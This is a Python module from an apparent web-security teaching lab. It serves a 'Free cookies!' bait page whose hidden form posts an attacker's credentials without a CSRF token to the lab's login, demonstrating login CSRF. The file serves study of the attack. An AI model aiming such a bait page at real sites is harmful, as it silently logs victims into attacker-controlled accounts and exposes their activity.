"""A page on another site: it posts the lab's login form from elsewhere (login CSRF).

Served by the desktop lab on ``localhost`` while the session server answers on ``127.0.0.1``:
two different sites to a browser. The form carries the attacker's credentials and no CSRF
token, because another site cannot read the token from the lab's pages.
"""

from __future__ import annotations

from flask import Flask, render_template_string

ATTACKER = "mallory"

PAGE = """<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Free cookies! – another site</title></head>
<body>
<h1>Claim your free cookie!</h1>
<p>This page lives on another site. Its button posts a login form to the lab's server,
with the attacker's user name and no CSRF token.</p>
<form method="post" action="{{ target }}">
  <input type="hidden" name="userid" value="{{ attacker }}">
  <input type="hidden" name="passwd" value="attacker-password">
  <button type="submit">Claim my cookie</button>
</form>
</body>
</html>
"""


def create_other_site(target_login_url: str) -> Flask:
    """Build the other site, whose one page posts to ``target_login_url``."""
    app = Flask(__name__)

    @app.get("/")
    def free_cookies():
        """The bait page."""
        return render_template_string(PAGE, target=target_login_url, attacker=ATTACKER)

    return app
